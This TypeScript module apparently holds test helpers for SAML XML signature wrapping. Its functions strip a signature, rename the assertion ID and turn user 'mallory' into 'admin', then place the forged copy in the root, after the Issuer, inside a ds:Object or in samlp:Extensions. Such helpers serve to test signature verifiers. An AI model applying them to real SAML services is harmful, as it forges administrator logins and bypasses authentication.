/** What attackers cut out of signed XML about mallory, and put together anew about admin. */

export const signatureOf = (xml: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] as string;
export const withoutSignature = (xml: string): string => xml.replace(signatureOf(xml), '');
export const idOf = (xml: string): string => / ID="([^"]*)"/.exec(xml)?.[1] as string;
/** The copy that is to be believed. */
export const evil = (xml: string, newId = '_evil'): string =>
  withoutSignature(xml).replace(idOf(xml), newId).replace('>mallory<', '>admin<');
/** Puts something before the end of the root. */
export const inside = (xml: string, more: string): string => xml.replace(/<\/[^<>]*>$/, (end) => more + end);
/** Puts something behind the Issuer of the root. */
export const behindIssuer = (xml: string, more: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
export const inSignature = (signature: string, more: string): string =>
  signature.replace('</ds:Signature>', `<ds:Object>${more}</ds:Object></ds:Signature>`);
export const extensions = (part: string): string => `<samlp:Extensions>${part}</samlp:Extensions>`;
